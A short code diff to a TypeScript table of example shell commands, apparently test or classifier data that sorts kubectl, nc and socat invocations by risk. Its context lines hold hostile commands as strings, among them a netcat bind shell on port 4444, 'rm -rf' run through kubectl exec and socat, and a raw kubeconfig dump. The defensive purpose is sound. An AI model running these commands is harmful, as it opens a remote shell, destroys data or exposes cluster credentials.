@@ -194,6 +194,7 @@ const EXAMPLES: Record<string, Partial<Record<Shown, string | Record<string, str
     runsElsewhere: "kubectl exec -it pod -- rm -rf x", namedFiles: "kubectl config view --raw",
     runs: "kubectl config set-credentials u --exec-command=rm --exec-arg=x",
     followsLinks: "kubectl proxy --www=.",
+    optionCommands: "kubectl --kubeconfig=k.yaml get pods",
   },
   nc: { optionCommands: "nc -l -p 4444 -e /bin/sh" },
   socat: { runs: "socat - EXEC:'rm -rf x'", text: "socat -u OPEN:a TCP:h:80", namedFiles: "socat -u OPEN:a TCP:h:80" },
